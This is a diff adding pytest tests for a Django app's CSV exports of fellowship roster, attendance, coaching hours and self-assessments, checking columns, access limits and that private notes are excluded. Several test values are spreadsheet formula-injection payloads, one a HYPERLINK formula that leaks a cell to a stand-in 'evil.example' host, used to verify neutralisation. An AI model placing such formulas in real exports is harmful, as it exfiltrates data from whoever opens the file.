@@ -1,0 +1,217 @@
+"""CSV exports: streamed, the right columns, safe in a spreadsheet, facts only for coaching."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from django.http import StreamingHttpResponse
+from django.urls import reverse
+
+from coaching.models import PrivateNote
+from reports.exports import EXPORTS, csv_safe
+from tests.queries import assert_stable_queries
+
+from .conftest import grow_cohort
+
+pytestmark = pytest.mark.django_db
+
+
+def download(client, cast, kind):
+    response = client.get(reverse("reports:export", args=[cast.cohort.code, kind]))
+    assert response.status_code == 200
+    assert isinstance(response, StreamingHttpResponse)
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert response["Content-Disposition"].startswith("attachment; filename=")
+    text = b"".join(response.streaming_content).decode()
+    return list(csv.reader(io.StringIO(text)))
+
+
+@pytest.mark.parametrize(
+    "value, expected",
+    [
+        ('=HYPERLINK("http://evil")', '\'=HYPERLINK("http://evil")'),
+        ("+1 555", "'+1 555"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tTabbed", "'\tTabbed"),
+        ("\rReturn", "'\rReturn"),
+        ("Ana = Lead", "Ana = Lead"),
+        (None, ""),
+        (7, "7"),
+    ],
+)
+def test_csv_safe(value, expected):
+    assert csv_safe(value) == expected
+
+
+def test_roster_columns_and_rows(data, client_for):
+    rows = download(client_for("staff"), data, "roster")
+    assert rows[0] == [
+        "Fellow",
+        "Email",
+        "State or territory",
+        "Agency",
+        "Title",
+        "Sector",
+        "Status",
+        "Coach",
+        "Withdrawn on",
+    ]
+    by_name = {r[0]: r for r in rows[1:]}
+    assert sorted(by_name) == ["Clara Classmate", "Fiona Fellow", "Pedro Peer", "Will Withdrawn"]
+    fiona = by_name["Fiona Fellow"]
+    assert fiona[1:4] == ["fellow@example.org", "Hawaii", "Hawaii Medicaid"]
+    assert fiona[6:8] == ["Active", "Cora Coach"]
+    assert by_name["Pedro Peer"][7] == ""
+    assert by_name["Will Withdrawn"][6:] == ["Withdrawn", "", "2026-10-01"]
+
+
+def test_formula_in_a_name_is_neutralised(data, client_for):
+    fellow = data.fellow
+    fellow.full_name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    fellow.save()
+    data.enrollments["fellow"].agency = "@SUM(1+1)"
+    data.enrollments["fellow"].save()
+    for kind in EXPORTS:
+        rows = download(client_for("staff"), data, kind)
+        names = [r[0] for r in rows[1:]]
+        assert "'" + fellow.full_name in names, kind
+        assert fellow.full_name not in names, kind
+    roster = download(client_for("staff"), data, "roster")
+    assert "'@SUM(1+1)" in [r[3] for r in roster]
+
+
+def test_attendance_export(data, client_for):
+    rows = download(client_for("staff"), data, "attendance")
+    assert rows[0] == ["Fellow", "Email", "Session", "Kind", "Starts (UTC)", "Attendance"]
+    assert len(rows) == 1 + 10  # ten marks recorded
+    assert [
+        "Fiona Fellow",
+        "fellow@example.org",
+        "October session",
+        "Monthly online session",
+        "2026-10-15 17:00",
+        "Absent",
+    ] in rows
+
+
+def test_coaching_hours_export_has_facts_and_never_notes(data, client_for):
+    from coaching.models import CoachingSession
+
+    session = CoachingSession.objects.filter(enrollment=data.enrollments["fellow"]).first()
+    clara_session = CoachingSession.objects.get(enrollment=data.enrollments["classmate"])
+    clara_session.competencies.add(data.rep.competencies[2], data.rep.competencies[0])
+    PrivateNote.objects.create(session=session, author=data.coach, body="PRIVATE-NOTE-TEXT")
+    CoachingSession.objects.update(shared_summary="SHARED-SUMMARY-TEXT")
+    response = client_for("staff").get(
+        reverse("reports:export", args=[data.cohort.code, "coaching-hours"])
+    )
+    text = b"".join(response.streaming_content).decode()
+    assert "PRIVATE-NOTE-TEXT" not in text
+    assert "SHARED-SUMMARY-TEXT" not in text
+    assert "Stakeholder mapping" not in text  # topics are free text: coaching keeps them
+    rows = list(csv.reader(io.StringIO(text)))
+    assert rows[0] == [
+        "Fellow",
+        "Email",
+        "Coach",
+        "Starts (UTC)",
+        "Duration (minutes)",
+        "Hours",
+        "Mode",
+        "Status",
+        "Counts against entitlement",
+        "Competencies",
+    ]
+    assert len(rows) == 1 + 5
+    clara = [r for r in rows if r[0] == "Clara Classmate"]
+    assert clara == [
+        [
+            "Clara Classmate",
+            "classmate@example.org",
+            "Otto Othercoach",
+            "2026-10-01 17:00",
+            "90",
+            "1.50",
+            "Video call",
+            "Completed",
+            "yes",
+            "Competency 1.1; Competency 2.1",
+        ]
+    ]
+
+
+def test_plan_progress_export(data, client_for):
+    rows = download(client_for("staff"), data, "plan-progress")
+    assert rows[0] == [
+        "Fellow",
+        "Email",
+        "Plan",
+        "Plan status",
+        "Focus levels",
+        "Milestones",
+        "Done",
+        "On track",
+        "Overdue",
+        "Last update",
+        "Last signal",
+    ]
+    fiona = next(r for r in rows if r[0] == "Fiona Fellow")
+    assert fiona[3:] == [
+        "Approved",
+        "Community; Societal",
+        "3",
+        "1",
+        "1",
+        "1",
+        "2026-11-25",
+        "On track",
+    ]
+    assert [r[0] for r in rows[1:]] == ["Clara Classmate", "Fiona Fellow", "Pedro Peer"]
+
+
+def test_self_assessment_export(data, client_for):
+    rows = download(client_for("staff"), data, "self-assessments")
+    assert rows[0] == [
+        "Fellow",
+        "Email",
+        "Phase",
+        "Submitted (UTC)",
+        "Domain",
+        "Competency",
+        "Level",
+        "Level label",
+    ]
+    assert len(rows) == 1 + 12  # three assessments of four competencies
+    assert rows[1] == [
+        "Fiona Fellow",
+        "fellow@example.org",
+        "Baseline",
+        "2026-09-15 12:00",
+        "Domain 1",
+        "Competency 1.1",
+        "2",
+        "Developing",
+    ]
+
+
+def test_a_coach_exports_their_own_fellows_only(data, client_for):
+    client = client_for("coach")
+    for kind in EXPORTS:
+        rows = download(client, data, kind)
+        assert {r[0] for r in rows[1:]} == {"Fiona Fellow"}, kind
+
+
+@pytest.mark.parametrize("kind", list(EXPORTS))
+def test_export_queries_do_not_grow(data, client_for, kind):
+    client = client_for("staff")
+    url = reverse("reports:export", args=[data.cohort.code, kind])
+
+    def fetch():
+        response = client.get(url)
+        b"".join(response.streaming_content)
+        return response
+
+    assert_stable_queries(fetch, lambda n: grow_cohort(data, n))
